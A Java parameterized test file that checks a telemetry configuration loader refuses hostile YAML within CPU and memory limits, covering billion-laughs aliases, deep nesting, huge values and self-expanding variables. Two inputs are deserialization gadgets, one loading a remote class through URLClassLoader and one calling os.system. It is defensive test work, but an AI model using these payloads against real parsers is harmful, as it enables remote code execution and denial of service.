package io.spanweir.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import com.sun.management.ThreadMXBean;
import io.spanweir.Spanweir;
import io.spanweir.config.ConfigLoader;
import io.spanweir.config.ConfigNode;
import io.spanweir.config.Problems;
import io.spanweir.graph.Components;
import io.spanweir.graph.Topology;
import java.lang.management.ManagementFactory;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Configurations that are made to cost much: each ends with a message, in bounded work. Work is measured as CPU time and
 * allocated bytes of the thread, which the load of the machine does not change; the bounds are several times what was measured.
 */
class HostileConfigurationTest {
    private static final long CPU_NANOS_MAX = 5_000_000_000L;
    private static final long ALLOCATED_BYTES_MAX = 512L << 20;
    private static final int SOURCE_LENGTH_MAX = 3 << 20;
    private static final String HEAD =
            "receivers: {nop: }\nexporters: {debug: }\nservice: {pipelines: {traces: {receivers: [nop], exporters: [debug]}}}\n";
    private static final String LARGE = "x".repeat(100_000);
    private static final ThreadMXBean THREADS = (ThreadMXBean) ManagementFactory.getThreadMXBean();

    private final Components components = Spanweir.components();

    private static String aliases(String first, String levelFormat, int levels) {
        StringBuilder text = new StringBuilder(first).append('\n');
        for (int level = 1; level < levels; level++) {
            text.append(levelFormat.replace("NEW", "a" + level).replace("OLD", "a" + (level - 1)))
                    .append('\n');
        }
        return text.toString();
    }

    private static String lines(int count, String format) {
        StringBuilder text = new StringBuilder(count * (format.length() + 6));
        for (int i = 0; i < count; i++) {
            text.append(format.replace("NUMBER", Integer.toString(i))
                    .replace("NEXT", Integer.toString(i + 1))
                    .replace("EACH", Integer.toString(i)));
        }
        return text.toString();
    }

    private static String filled(String begin, String part, String end) {
        return begin + part.repeat((SOURCE_LENGTH_MAX - begin.length() - end.length()) / part.length()) + end;
    }

    static Stream<Arguments> attacks() {
        String chain = lines(9_000, "    traces/NUMBER: {receivers: [forward/NUMBER], exporters: [forward/NEXT]}\n");
        return Stream.of(
                argumentSet(
                        "a billion laughs",
                        aliases(
                                "a0: &a0 [x, x, x, x, x, x, x, x, x, x]",
                                "NEW: &NEW [*OLD, *OLD, *OLD, *OLD, *OLD]",
                                30),
                        "more than 100000 values up to here"),
                argumentSet(
                        "merges that double",
                        aliases("a0: &a0 {k0: 1}", "NEW: &NEW {l: {<<: *OLD}, r: {<<: [*OLD, *OLD]}}", 40),
                        "more than 100000 values up to here"),
                argumentSet(
                        "an anchor that refers to itself",
                        "a: &a\n  b: [1, {c: *a}]\n",
                        "\"*a\" stands for a value that it is part of"),
                argumentSet(
                        "an anchor set a hundred thousand times",
                        filled("a: [", "&x 1, ", "]"),
                        "more than 100000 values up to here"),
                argumentSet(
                        "a Java class to load",
                        "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
                        "tag \"!!javax.script.ScriptEngineManager\" is not known"),
                argumentSet(
                        "a Python object to call",
                        "a: !!python/object/apply:os.system [\"id\"]",
                        "tag \"!!python/object/apply:os.system\" is not known"),
                argumentSet("lists a million deep", filled("a: ", "[", ""), "is nested deeper than 100 levels"),
                argumentSet("sections a million deep", filled("a: ", "{a: ", ""), "is nested deeper than 100 levels"),
                argumentSet("items on one line", "a:\n" + "- ".repeat(100_000), "is nested deeper than 100 levels"),
                argumentSet("a huge value", filled(HEAD + "x: \"", "y", "\""), "x: unknown option"),
                argumentSet(
                        "a huge value over many lines", filled(HEAD + "x: |\n", "  line\n", ""), "x: unknown option"),
                argumentSet(
                        "more than a source may have",
                        "x: " + "y".repeat(SOURCE_LENGTH_MAX),
                        "are read, split it over"),
                argumentSet("a huge number", filled(HEAD + "engine: {lanes: ", "9", "}"), "lanes: \"9999"),
                argumentSet("a huge exponent", HEAD + "engine: {lanes: 1e999999999}", "is not a whole number"),
                argumentSet("a huge hexadecimal number", filled(HEAD + "engine: {lanes: 0x", "f", "}"), "lanes: \""),
                argumentSet(
                        "a huge duration", filled(HEAD + "processors: {batch: {timeout: ", "1h", "}}"), "timeout: \""),
                argumentSet("a huge size", filled(HEAD + "engine: {memory: ", "9", "MiB}"), "memory: \""),
                argumentSet("a huge key", filled("? ", "k", "\n: 1\n"), "a key of "),
                argumentSet(
                        "forty thousand keys that nobody knows",
                        lines(40_000, "keyNUMBER: 1\n"),
                        "key0: unknown option"),
                argumentSet(
                        "forty thousand near misses of known keys",
                        "processors:\n  tail_sampling:\n" + lines(40_000, "    decision_wait_after_NUMBER: 1\n"),
                        "decision_wait_after_0: unknown option"),
                argumentSet(
                        "forty thousand keys that nest",
                        lines(40_000, "a::kNUMBER: 1\n") + "a: {b: 2}\n",
                        "a: unknown option"),
                argumentSet("the same key many times", lines(40_000, "a: 1\n"), "\"a\" is here twice"),
                argumentSet(
                        "forty thousand components that nobody knows",
                        "receivers:\n" + lines(40_000, "  otlpNUMBER:\n"),
                        "unknown receiver type \"otlp0\""),
                argumentSet(
                        "thirty thousand references to nothing",
                        "receivers:\n" + lines(20_000, "  nop/NUMBER:\n")
                                + "service:\n  pipelines:\n    traces:\n      receivers:\n"
                                + lines(30_000, "      - nop/xNUMBER\n"),
                        "\"nop/x0\" is not configured"),
                argumentSet(
                        "a chain of nine thousand pipelines in a circle",
                        "connectors:\n" + lines(9_001, "  forward/NUMBER:\n") + "service:\n  pipelines:\n" + chain
                                + "    traces/end: {receivers: [forward/9000], exporters: [forward/0]}\n",
                        "is part of a cycle"),
                argumentSet(
                        "two hundred pipelines, each joined to all",
                        "connectors:\n" + lines(200, "  forward/NUMBER:\n") + "service:\n  pipelines:\n"
                                + lines(
                                        200,
                                        "    traces/NUMBER: {receivers: [forward/NUMBER], exporters: ["
                                                + lines(200, "forward/EACH, ") + "]}\n"),
                        "is part of a cycle"),
                argumentSet("a reference that is never closed", filled("a: '", "${", "'"), "is never closed"),
                argumentSet(
                        "references in references",
                        "a: " + "${env:".repeat(200_000) + "}".repeat(200_000),
                        "is no name of a variable"),
                argumentSet(
                        "a variable that doubles itself",
                        "a: ${env:DOUBLE}",
                        "needs more than 100 expansions; does a variable refer to itself?"),
                argumentSet(
                        "a large variable very often",
                        "a:\n" + lines(20_000, "- ${env:LARGE}\n"),
                        "all expansions together give more than"),
                argumentSet("dollars", filled("service: '", "$", "'"), "expected a section"),
                argumentSet("many documents", filled("", "---\na: 1\n", ""), "a second document starts here"),
                argumentSet("quotes", filled("a: ", "\"", ""), "\""),
                argumentSet("colons", filled("a", ":", ""), "a"),
                argumentSet("question marks", filled("", "? ", ""), "a key must be text"),
                argumentSet("tags", filled("", "!a ", ""), "!"),
                argumentSet("comments", filled("", "# x\n", ""), "has no section \"service\""),
                argumentSet("spaces", filled("a: ", " ", ""), "unknown option"),
                argumentSet("line ends", filled("a: '", "\n", "'"), "unknown option"));
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void isRefusedInBoundedWork(String text, String expected) {
        ConfigLoader loader = ConfigLoader.of(HostileConfigurationTest::variable, Path.of("/nonexistent"));
        Problems problems = new Problems();
        long cpu = THREADS.getCurrentThreadCpuTime();
        long allocated = THREADS.getCurrentThreadAllocatedBytes();
        ConfigNode root = loader.loadText("hostile.yaml", text, problems);
        Topology.decode(root, components);
        String said = problems.toString();
        long cpuNanos = THREADS.getCurrentThreadCpuTime() - cpu;
        long bytes = THREADS.getCurrentThreadAllocatedBytes() - allocated;
        assertThat(said.length() > 20_000 ? said.substring(0, 20_000) : said).contains(expected);
        assertThat(cpuNanos).as("nanoseconds of CPU").isLessThan(CPU_NANOS_MAX);
        assertThat(bytes).as("bytes allocated").isLessThan(ALLOCATED_BYTES_MAX);
    }

    private static String variable(String name) {
        return name.equals("DOUBLE") ? "${env:DOUBLE}${env:DOUBLE}" : name.equals("LARGE") ? LARGE : "";
    }
}
